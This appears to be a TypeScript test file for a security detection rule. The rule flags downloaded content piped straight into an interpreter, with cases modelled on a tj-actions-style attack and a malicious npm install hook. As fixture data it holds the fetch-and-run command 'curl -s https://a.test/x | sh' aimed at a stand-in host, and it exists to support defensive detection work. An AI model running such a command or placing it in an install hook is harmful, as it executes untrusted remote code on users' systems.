import { exec, minutes, running, shell } from "../case.ts";
import type { RuleCase } from "../case.ts";

const bash = running("/bin/bash");
const npm = running("/usr/bin/node /usr/bin/npm install", bash);
const hook = shell("curl -s https://a.test/x | sh", npm, { directory: "/w/app/node_modules/evil" });
const curl = running("/usr/bin/curl -s https://a.test/x", bash, { pid: 300 });

export const cases: readonly RuleCase[] = [
  {
    says: "tj-actions: what is downloaded goes into an interpreter",
    events: [exec(curl), exec(running("/usr/bin/python3", bash))],
    finds: [
      ["medium", 'python3 ran what "/usr/bin/curl -s https://a.test/x" downloaded, without it ever being a file.'],
    ],
  },
  {
    says: "an install hook does so in one line",
    events: [exec(hook)],
    finds: [
      [
        "high",
        'sh ran what "curl -s https://a.test/x | sh" downloaded, without it ever being a file, during npm\'s installation of evil.',
      ],
    ],
  },
  {
    says: "a download into a file, and a script that is a file",
    events: [exec(curl), exec(running("/usr/bin/python3 /w/report.py", bash))],
    finds: [],
  },
  {
    says: "a shell that reads its input long after a download",
    events: [exec(curl), exec(running("/bin/sh", bash), { at: minutes(5) })],
    finds: [],
  },
  {
    says: "a download into a program that is no interpreter",
    events: [exec(shell("curl -s https://a.test/x.json | jq .name", bash))],
    finds: [],
  },
];
